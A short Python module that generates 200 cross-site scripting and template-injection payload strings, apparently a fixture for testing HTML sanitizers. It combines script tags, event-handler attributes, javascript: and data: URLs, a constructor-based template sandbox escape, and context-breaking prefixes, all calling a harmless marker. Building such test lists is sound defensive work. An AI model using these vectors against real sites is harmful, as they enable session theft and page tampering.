"""Texts that want to be more than text: markup, scripts, addresses, templates, and signs that turn a line around."""

from itertools import product

_CALL = "window.__x=1"
_SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<a href='javascript:{}'>here</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<math><mtext></p><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href='data:text/css,x'><img src=x onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{ $n -> *[other] {} }}",
    "{{@html '<img src=x onerror={}>'}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
_FRAMES = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</select>{}", "--></p>{}", "]]>{}", "&lt;{}", "`{}`")

PAYLOADS = [frame.format(shape.format(_CALL)) for frame, shape in product(_FRAMES, _SHAPES)]
